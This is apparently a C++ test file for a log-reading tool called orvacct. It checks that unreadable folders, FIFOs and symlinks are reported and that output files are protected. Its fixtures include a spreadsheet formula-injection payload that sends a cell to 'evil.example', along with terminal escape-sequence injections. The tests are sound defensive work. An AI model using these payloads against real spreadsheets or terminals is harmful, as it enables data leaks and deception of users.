// orvacct logs over shares as they really are: what cannot be read is named and never skipped in
// silence, nothing waits for ever, links never lead out of the tree, memory is bounded by what is
// shown, line numbers are exact, and nothing from the logs reaches a terminal or a spreadsheet as
// something they would act on.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <regex>
#include <string>
#include <vector>

#include "support/log_tree.h"
#include "support/tool_terminal.h"

namespace orv {
namespace {

namespace fs = std::filesystem;
using testing::logRecord;
using testing::quoted;
using testing::runLogs;
using testing::writeLog;

std::size_t lines(const std::string& text) { return static_cast<std::size_t>(std::count(text.begin(), text.end(), '\n')); }

TEST(ToolLogsShare, AFolderThatCannotBeSearchedIsNamedAndTheRestIsRead) {
  testing::TempFolder share;
  fs::permissions(share.path(), fs::perms::all);
  writeLog(share / "gathered/PC1/Logs/billing-03052002.log", logRecord(91, "one"));
  writeLog(share / "gathered/PC2/Logs/billing-03052002.log", logRecord(91, "two"));
  writeLog(share / "PC3/Logs/billing-03052002.log", logRecord(13, "three"));
  fs::permissions(share / "gathered", fs::perms::owner_read | fs::perms::group_read | fs::perms::others_read);
  // As root every folder can be searched: the tool runs as nobody, as a support person would.
  const std::string asUser = geteuid() == 0 ? "timeout -s KILL 60 setpriv --reuid=65534 --regid=65534 --clear-groups" :
                                              "timeout -s KILL 60";
  const auto run = runLogs("summary --by number " + quoted(share.path()), asUser);
  fs::permissions(share / "gathered", fs::perms::owner_all);
  EXPECT_EQ(run.exitCode, 1) << run.err;
  EXPECT_NE(run.err.find("cannot read " + (share / "gathered/PC1").string() + ": Permission denied"), std::string::npos)
      << run.err;
  EXPECT_NE(run.err.find("cannot read " + (share / "gathered/PC2").string() + ": Permission denied"), std::string::npos)
      << run.err;
  EXPECT_NE(run.out.find("1 records, 0 damaged, in 1 file"), std::string::npos) << run.out;
}

// A folder that opens but whose entries cannot be read (a share gone mid-listing) is named with
// the system's reason, never taken for an empty folder.
TEST(ToolLogsShare, AFolderWhoseListingFailsIsNamedAndTheRestIsRead) {
  testing::TempFolder share;
  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, "one"));
  writeLog(share / "PC2/unlistable/billing-03052002.log", logRecord(13, "two"));
  const auto run = runLogs("summary --by number " + quoted(share.path()),
                           "timeout -s KILL 60 env LD_PRELOAD='" FAILING_LISTING_PRELOAD
                           "' ASAN_OPTIONS=verify_asan_link_order=0");
  EXPECT_EQ(run.exitCode, 1) << run.err;
  EXPECT_NE(run.err.find("cannot read " + (share / "PC2/unlistable").string() + ": Input/output error"),
            std::string::npos)
      << run.err;
  EXPECT_NE(run.out.find("1 records, 0 damaged, in 1 file"), std::string::npos) << run.out;
}

TEST(ToolLogsShare, ALogFarBelowThePathLengthLimitIsRead) {
  testing::TempFolder share;
  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, "near"));
  const int deepest = testing::nestFolders(share / "PC1", 2100);
  ASSERT_GE(deepest, 0);
  const std::string record = logRecord(13, "deep");
  const int file = ::openat(deepest, "billing-03062002.log", O_WRONLY | O_CREAT, 0644);
  ASSERT_EQ(::write(file, record.data(), record.size()), static_cast<ssize_t>(record.size()));
  ::close(file);
  ::close(deepest);
  const auto run = runLogs("export " + quoted(share.path()));
  testing::runShell("rm -rf " + quoted(share / "PC1"));  // deeper than remove_all goes
  EXPECT_EQ(run.exitCode, 0) << run.err;
  EXPECT_EQ(lines(run.out), 2u) << run.err;
  EXPECT_NE(run.out.find("\"description\":\"deep\""), std::string::npos);
}

TEST(ToolLogsShare, WhatIsNoPlainFileUnderALogsNameIsNamedNeverWaitedFor) {
  testing::TempFolder share;
  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, "read"));
  ASSERT_EQ(::mkfifo((share / "PC1/Logs/billing-03062002.log").c_str(), 0644), 0);
  fs::create_symlink("/dev/zero", share / "PC1/Logs/billing-03072002.log");
  fs::create_symlink("/dev/stdin", share / "PC1/Logs/billing-03082002.log");
  // The report goes to a file of the test's own: given /dev/null, a run as root would put a plain
  // file in place of the device.
  testing::TempFolder elsewhere;
  for (const std::string& command : {std::string("export"), std::string("summary"),
                                    "report --output " + quoted(elsewhere / "report.html")}) {
    const auto plain = runLogs(command + " " + quoted(share.path()));
    ASSERT_NE(plain.exitCode, testing::kHung) << command << " waited for ever";
    EXPECT_EQ(plain.exitCode, 1) << command;
    EXPECT_NE(plain.err.find("billing-03062002.log: not read: a FIFO"), std::string::npos) << plain.err;
    EXPECT_NE(plain.err.find("billing-03072002.log: not read: a link"), std::string::npos) << plain.err;
    EXPECT_NE(plain.err.find("billing-03082002.log: not read: a link"), std::string::npos) << plain.err;
  }
  // Given by name, a FIFO is still not waited on.
  const auto named = runLogs("export " + quoted(share / "PC1/Logs/billing-03062002.log"));
  EXPECT_EQ(named.exitCode, 1);
  EXPECT_NE(named.err.find("not read: a FIFO"), std::string::npos) << named.err;
}

TEST(ToolLogsShare, LinksBelowARootAreNotFollowedARootThatIsALinkIs) {
  testing::TempFolder outside, share;
  writeLog(outside / "Logs/secret-03052002.log", logRecord(5, "outside the tree"));
  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, "inside"));
  fs::create_symlink(outside / "Logs/secret-03052002.log", share / "PC1/Logs/secret-03052002.log");
  fs::create_directory_symlink(outside / "Logs", share / "PC1/more");
  fs::create_directory_symlink("..", share / "PC1/Logs/back");
  const auto run = runLogs("export " + quoted(share.path()));
  EXPECT_EQ(run.exitCode, 1);
  EXPECT_EQ(lines(run.out), 1u) << run.out;
  EXPECT_EQ(run.out.find("outside the tree"), std::string::npos);
  for (const char* link : {"PC1/Logs/secret-03052002.log", "PC1/more", "PC1/Logs/back"}) {
    EXPECT_NE(run.err.find((share / link).string() + ": not read: a link"), std::string::npos) << link << run.err;
  }
  fs::create_directory_symlink(share.path(), outside / "share");
  const auto throughLink = runLogs("export " + quoted(outside / "share"));
  EXPECT_NE(throughLink.out.find("\"description\":\"inside\""), std::string::npos) << throughLink.err;
}

TEST(ToolLogsShare, LineNumbersAreExactWhateverTheLengthOfALine) {
  testing::TempFolder share;
  const std::string longLine(3 << 20, 'x');
  writeLog(share / "PC1/Logs/billing-03052002.log", longLine + "\r\n" + logRecord(91, "after the long line"));
  const auto run = runLogs("export " + quoted(share.path()));
  EXPECT_NE(run.out.find("\"line\":2,"), std::string::npos) << run.out;
  EXPECT_EQ(run.err, (share / "PC1/Logs/billing-03052002.log").string() + ":1: 1 stray line between records\n");
}

TEST(ToolLogsShare, AGiantDescriptionIsKeptToABoundAndItsRecordStillCounts) {
  testing::TempFolder share;
  std::string description;
  while (description.size() < (3u << 20)) description += "a line of a description that never ends\r\n";
  const std::string whole = logRecord(91, description);
  writeLog(share / "PC1/Logs/billing-03052002.log", whole + whole.substr(0, whole.size() / 2));
  const auto run = runLogs("export " + quoted(share.path()));
  ASSERT_EQ(lines(run.out), 1u) << run.err;
  const std::string label = "\"description\":\"";
  const std::size_t begin = run.out.find(label) + label.size();
  const std::string text = run.out.substr(begin, run.out.find("\",\"module\"") - begin);
  EXPECT_LE(text.size(), (64u << 10) * 2) << "the description, with its escaped line breaks, is kept to 64 KiB";
  EXPECT_TRUE(text.ends_with("\xE2\x80\xA6")) << "a cut is shown";
  EXPECT_NE(run.err.find(":" + std::to_string(lines(whole) + 1) + ": record cut short by the end of the file"),
            std::string::npos)
      << run.err;
}

TEST(ToolLogsShare, NothingFromTheLogsReachesATerminalAsControlCharacters) {
  testing::TempFolder share;
  const std::string forged = "\x1b]0;PWNED\x07\x1b[2J";
  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, forged));
  writeLog(share / "PC1/Logs/evil\n\x1b[2Jall records whole-03052002.log", "stray\r\n" + logRecord(5, "x"));
  const auto run = runLogs("summary --by number " + quoted(share.path()));
  EXPECT_EQ(run.out.find('\x1b'), std::string::npos);
  EXPECT_EQ(run.err.find('\x1b'), std::string::npos);
  EXPECT_NE(run.out.find("\\x1b]0;PWNED\\x07\\x1b[2J"), std::string::npos) << run.out;
  EXPECT_NE(run.err.find("evil\\n\\x1b[2Jall records whole-03052002.log:1: 1 stray line"), std::string::npos) << run.err;
  EXPECT_EQ(lines(run.err), 1u) << "one diagnostic, one line: " << run.err;
}

// The cells a spreadsheet would run, and those it would not.
TEST(ToolLogsShare, NoCsvCellIsAFormula) {
  struct Case {
    std::string description, cell;
  };
  const std::vector<Case> cases = {
      {"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"x\"\")\""},
      {"+1+1", "\"'+1+1\""},
      {"-1+1", "\"'-1+1\""},
      {"@SUM(A1)", "\"'@SUM(A1)\""},
      {"\tindented", "\"'\tindented\""},
      {"-2147467259", "-2147467259"},
      {"-1.5", "-1.5"},
      {"plain text", "plain text"},
  };
  testing::TempFolder share;
  std::string log;
  for (std::size_t i = 0; i < cases.size(); ++i) log += logRecord(static_cast<int>(i), cases[i].description);
  writeLog(share / "PC1/Logs/billing-03052002.log", log);
  const auto run = runLogs("export --format csv " + quoted(share.path()));
  for (std::size_t i = 0; i < cases.size(); ++i) {
    EXPECT_NE(run.out.find("," + std::to_string(i) + "," + cases[i].cell + ",modMain,"), std::string::npos)
        << cases[i].description << "\n"
        << run.out;
  }
  const auto summary = runLogs("summary --by number --format csv " + quoted(share.path()));
  EXPECT_NE(summary.out.find(",\"'=HYPERLINK("), std::string::npos) << summary.out;
}

// Groups beyond what is shown are counted in bounded tables: the largest stay exact, and the
// output says where counts became estimates.
TEST(ToolLogsShare, ManyDistinctErrorsAreCountedInBoundedMemoryAndSaySo) {
  testing::TempFolder share;
  std::string log;
  for (int i = 0; i < 50; ++i) log += logRecord(7, "the one that matters");
  for (int number = 100; number < 5100; ++number) log += logRecord(number, "one of many");
  writeLog(share / "PC1/Logs/billing-03052002.log", log);
  const auto summary = runLogs("summary --by number --top 1 " + quoted(share.path()));
  EXPECT_NE(summary.out.find("\n     7     50  "), std::string::npos) << summary.out;
  EXPECT_NE(summary.out.find("5050 records, 0 damaged, in 1 file; the 1 largest groups; more groups than could be "
                             "counted exactly: each count shown may be up to 0 too high"),
            std::string::npos)
      << summary.out;
  const auto report = runLogs("report --output " + quoted(share / "r.html") + " " + quoted(share.path()));
  const std::string page = testing::readFile(share / "r.html");
  EXPECT_NE(page.find("More error numbers than the 256 counted one by one"), std::string::npos);
  EXPECT_NE(page.find("<td class=\"n\" data-v=\"50\">50</td>"), std::string::npos) << "the largest, exact";
}

// The notes over tables counted past their bound say how far their figures may be off, and the
// records of applications no longer counted on their own join the chart's other applications.
TEST(ToolLogsReport, PastTheCountedApplicationsTheNotesSayHowFarOffAndTheRestIsOneSeries) {
  testing::TempFolder share;
  for (int app = 0; app < 1100; ++app) {
    writeLog(share / "PC1/Logs" / ("app" + std::to_string(1000 + app) + "-03052002.log"), logRecord(app, "e"));
  }
  const auto run = runLogs("report --output " + quoted(share / "r.html") + " " + quoted(share.path()));
  ASSERT_EQ(run.exitCode, 0) << run.err;
  const std::string page = testing::readFile(share / "r.html");
  // Every number is in the logs once; 1100 through 256 slots, the largest counts shown are 5.
  EXPECT_NE(page.find("than the 256 counted one by one: the counts of this table are estimates, each at most 4 too "
                      "high"), std::string::npos);
  EXPECT_NE(page.find("than the 1,024 counted one by one: the figures of this table may be too low, its records each "
                      "by at most 1,"), std::string::npos);
  const std::regex other("other applications");
  EXPECT_EQ(std::distance(std::sregex_iterator(page.begin(), page.end(), other), std::sregex_iterator()), 2)
      << "one segment and one legend entry";
  EXPECT_NE(page.find("2002-03-05 other applications: 1,091</title>"), std::string::npos) << "all but the nine named";
}

// An application's error numbers are counted to 1000; past that, "more than 1000".
TEST(ToolLogsReport, AnApplicationsErrorNumbersAreCountedToTheirBound) {
  struct Case {
    int numbers;
    std::string cell;
  };
  for (const Case& c : std::vector<Case>{{1000, ">1,000</td>"}, {1001, ">more than 1,000</td>"}}) {
    testing::TempFolder share;
    std::string log;
    for (int number = 0; number < c.numbers; ++number) log += logRecord(number, "e");
    writeLog(share / "PC1/Logs/billing-03052002.log", log);
    runLogs("report --output " + quoted(share / "r.html") + " " + quoted(share.path()));
    EXPECT_NE(testing::readFile(share / "r.html").find("data-v=\"1000\"" + c.cell), std::string::npos) << c.numbers;
  }
}

// A machine's name in an error's list is cut to its bound at a character's edge.
TEST(ToolLogsReport, AMachinesNameIsCutBetweenCharacters) {
  testing::TempFolder share;
  const std::string machine = std::string(127, 'a') + "\xC3\xA9";  // é across byte 128
  writeLog(share / machine / "Logs/billing-03052002.log", logRecord(91, "e"));
  runLogs("report --output " + quoted(share / "r.html") + " " + quoted(share.path()));
  const std::string page = testing::readFile(share / "r.html");
  EXPECT_NE(page.find("<li>" + std::string(127, 'a') + " <b>1</b></li>"), std::string::npos);
}

TEST(ToolLogsReport, DaysFarFromTheRestAreToldNotGivenMillionsOfBars) {
  testing::TempFolder share;
  for (const char* date : {"01010100", "12319999", "03052026", "03062026"}) {
    writeLog(share / "PC1/Logs" / (std::string("billing-") + date + ".log"), logRecord(91, "e"));
  }
  const auto run = runLogs("report --output " + quoted(share / "r.html") + " " + quoted(share.path()));
  ASSERT_EQ(run.exitCode, 0) << run.err;
  const std::string page = testing::readFile(share / "r.html");
  EXPECT_LT(page.size(), 100'000u);
  EXPECT_NE(page.find("Not drawn: 2 records on days far from all the others"), std::string::npos);
  EXPECT_NE(page.find("0100-01-01 (1), 9999-12-31 (1)"), std::string::npos);
  EXPECT_NE(page.find("<b>4</b>records"), std::string::npos) << "still counted";
}

TEST(ToolLogsReport, ItIsWrittenWhereAskedOrFailsBeforeReading) {
  testing::TempFolder share;
  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, "e") + "stray\r\n");
  const auto written = runLogs("report --output " + quoted(share / "r.html") + " " + quoted(share.path()));
  EXPECT_TRUE(written.err.ends_with("orvacct: report written to " + (share / "r.html").string() + "\n")) << written.err;
  const auto refused = runLogs("report --output " + quoted(share / "missing/r.html") + " " + quoted(share.path()));
  EXPECT_EQ(refused.exitCode, 1);
  EXPECT_EQ(refused.err.rfind("orvacct: cannot write " + (share / "missing/r.html").string(), 0), 0u) << refused.err;
  EXPECT_EQ(lines(refused.err), 1u) << "nothing was read: " << refused.err;
  // Something that is no plain file is never replaced by the page (as root, /dev/null would be).
  ASSERT_EQ(::mkfifo((share / "fifo.html").c_str(), 0644), 0);
  const auto fifo = runLogs("report --output " + quoted(share / "fifo.html") + " " + quoted(share.path()));
  EXPECT_EQ(fifo.exitCode, 1);
  EXPECT_EQ(lines(fifo.err), 1u) << fifo.err;
  EXPECT_TRUE(fs::is_fifo(share / "fifo.html"));
}

// The page never replaces a file without --overwrite, and never, even with it, a file the run
// reads or could read: it is refused by name before anything is read.
TEST(ToolLogsReport, ItNeverWritesOverWhatExistsNorOverWhatItReads) {
  testing::TempFolder share;
  const std::string log = logRecord(91, "kept");
  writeLog(share / "PC1/Logs/app-03062002.log", log);
  testing::TempFolder elsewhere;
  testing::writeFile(elsewhere / "precious.txt", "mine");
  struct Case {
    std::string output, paths, refusal;
  };
  const std::string root = quoted(share.path()), logFile = (share / "PC1/Logs/app-03062002.log").string();
  const std::vector<Case> cases = {
      {(elsewhere / "precious.txt").string(), root, "precious.txt exists; give --overwrite to replace it"},
      {logFile, root + " --overwrite", "will not write " + logFile + ": it lies in " + share.path().string() +
                                           ", which this run reads, even with --overwrite"},
      {logFile, quoted(fs::path(logFile)) + " --overwrite", "will not write " + logFile + ": it is " + logFile +
                                                      ", which this run reads, even with --overwrite"},
      {logFile, quoted(share / "PC1") + " " + quoted(elsewhere.path()) + " --overwrite", "it lies in "},
  };
  for (const Case& c : cases) {
    const auto run = runLogs("report --output " + quoted(fs::path(c.output)) + " " + c.paths);
    EXPECT_EQ(run.exitCode, 1) << c.output << " " << c.paths;
    EXPECT_NE(run.err.find(c.refusal), std::string::npos) << run.err;
    EXPECT_EQ(lines(run.err), 1u) << "refused before reading: " << run.err;
  }
  EXPECT_EQ(testing::readFile(elsewhere / "precious.txt"), "mine");
  EXPECT_EQ(testing::readFile(share / "PC1/Logs/app-03062002.log"), log);
  const auto replaced = runLogs("report --overwrite --output " + quoted(elsewhere / "precious.txt") + " " + root);
  EXPECT_EQ(replaced.exitCode, 0) << replaced.err;
  EXPECT_TRUE(testing::readFile(elsewhere / "precious.txt").starts_with("<!DOCTYPE html>"));
}

// A page is shared as a shell's redirection would make it; a file of passwords stays private.
TEST(ToolLogsReport, ThePageGetsTheUmasksPermissionsWhereSecretsStayPrivate) {
  testing::TempFolder share;
  writeLog(share / "PC1/Logs/app-03062002.log", logRecord(91, "e"));
  const auto modeOf = [](const fs::path& file) {
    struct stat status {};
    ::stat(file.c_str(), &status);
    return status.st_mode & 07777;
  };
  for (const auto& [umask, mode] : {std::pair{"022", 0644u}, std::pair{"027", 0640u}, std::pair{"077", 0600u}}) {
    const fs::path page = share / (std::string("r") + umask + ".html");
    const auto run = runLogs("report --output " + quoted(page) + " " + quoted(share / "PC1"),
                             std::string("umask ") + umask + "; timeout -s KILL 60");
    EXPECT_EQ(run.exitCode, 0) << run.err;
    EXPECT_EQ(modeOf(page), mode) << "umask " << umask;
  }
  const fs::path sealed = share / "sealed.txt";
  const auto run = testing::runShell("umask 022; '" ORVACCT_TOOL_PATH "' pwd encrypt --key k --output-file " +
                                     quoted(sealed) + " secret 2>&1");
  EXPECT_EQ(run.exitCode, 0) << run.out;
  EXPECT_EQ(modeOf(sealed), 0600u);
}

// A NUL that LogErrors wrote from a client's string keeps its record, shown escaped wherever
// people read it; a file under a log's name with no record in it is named, and the run fails.
TEST(ToolLogsShare, ANulNeverDropsALogAndAFileOfNoRecordIsNamed) {
  testing::TempFolder share;
  writeLog(share / "PC1/Logs/app-03062002.log", logRecord(1, std::string("before\0after", 12)));
  const auto exported = runLogs("export " + quoted(share.path()));
  EXPECT_EQ(exported.exitCode, 0) << exported.err;
  EXPECT_NE(exported.out.find("\"description\":\"before\\u0000after\""), std::string::npos) << exported.out;
  const auto table = runLogs("summary " + quoted(share.path()));
  EXPECT_NE(table.out.find("before\\x00after"), std::string::npos) << table.out;
  const auto report = runLogs("report --output " + quoted(share / "r.html") + " " + quoted(share.path()));
  EXPECT_EQ(report.exitCode, 0) << report.err;
  const std::string page = testing::readFile(share / "r.html");
  EXPECT_NE(page.find("before\\x00after"), std::string::npos);
  EXPECT_EQ(page.find('\0'), std::string::npos);

  writeLog(share / "PC2/Logs/app-03062002.log", std::string("\0\x7f" "ELF\n\n\x01\x02", 9));
  for (const std::string command : {"export", "summary"}) {
    const auto run = runLogs(command + " " + quoted(share.path()));
    EXPECT_EQ(run.exitCode, 1) << command;
    EXPECT_EQ(run.err, (share / "PC2/Logs/app-03062002.log").string() +
                           ":1: not an error log: nothing in it is a record\n");
  }
}

}  // namespace
}  // namespace orv

namespace orv {
namespace {

// A share of three logs and a file under a log's name that holds no record, whose diagnostic
// must print above the progress line.
void writeProgressShare(const testing::TempFolder& share) {
  writeLog(share / "PC1/Logs/billing-03052002.log", logRecord(91, "one"));
  writeLog(share / "PC1/Logs/billing-03062002.log", "not a log at all\r\n");
  writeLog(share / "PC2/Logs/billing-03052002.log", logRecord(13, "two"));
  writeLog(share / "PC3/Logs/billing-03052002.log", logRecord(5, "three"));
}

// The line drawn from the start, not after a second, so every redrawing shows.
class ProgressFromTheStart {
 public:
  ProgressFromTheStart() { setenv("ORVACCT_PROGRESS_AFTER_MS", "0", 1); }
  ~ProgressFromTheStart() { unsetenv("ORVACCT_PROGRESS_AFTER_MS"); }
};

TEST(ToolLogsProgress, AtATerminalALineIsDrawnRedrawnAndClearedBelowTheDiagnostics) {
  const testing::TempFolder share;
  writeProgressShare(share);
  const ProgressFromTheStart fromTheStart;
  testing::ToolAtTerminal tool("logs summary --threads 1 " + quoted(share.path()));
  const int status = tool.finish();
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 1) << status;  // the file of no record
  const std::string& screen = tool.screen();
  EXPECT_NE(screen.find("\rread 0 of 1 file, 0.0 of 0.0 MiB"), std::string::npos) << screen;
  const std::string last = "read 4 of 4 files, 0.0 of 0.0 MiB";
  const std::size_t drawn = screen.rfind("\r" + last);
  ASSERT_NE(drawn, std::string::npos) << screen;
  // Cleared: the last line drawn overwritten by spaces, the cursor back at its start.
  const std::string shown = screen.substr(drawn + 1, screen.find('\r', drawn + 1) - drawn - 1);
  EXPECT_TRUE(screen.ends_with("\r" + std::string(shown.size(), ' ') + "\r")) << screen;
  // The diagnostic on a line of its own, the progress line erased before it.
  const std::size_t diagnostic = screen.find((share / "PC1/Logs/billing-03062002.log").string() + ":1: not an error log");
  ASSERT_NE(diagnostic, std::string::npos) << screen;
  EXPECT_TRUE(std::regex_search(screen.substr(0, diagnostic), std::regex("\r {20,}\r$"))) << screen;
  EXPECT_NE(tool.out().find("3 records, 0 damaged, in 4 files"), std::string::npos) << tool.out();
}

TEST(ToolLogsProgress, NoneOnAPipeNorWhenQuiet) {
  const testing::TempFolder share;
  writeProgressShare(share);
  const ProgressFromTheStart fromTheStart;
  const auto piped = runLogs("summary " + quoted(share.path()));
  EXPECT_EQ(piped.err.find("read "), std::string::npos) << piped.err;
  EXPECT_NE(piped.err.find("not an error log"), std::string::npos) << piped.err;
  testing::ToolAtTerminal quiet("logs summary --quiet " + quoted(share.path()));
  quiet.finish();
  EXPECT_EQ(quiet.screen().find("read "), std::string::npos) << quiet.screen();
  EXPECT_NE(quiet.screen().find("not an error log"), std::string::npos) << quiet.screen();
}

}  // namespace
}  // namespace orv
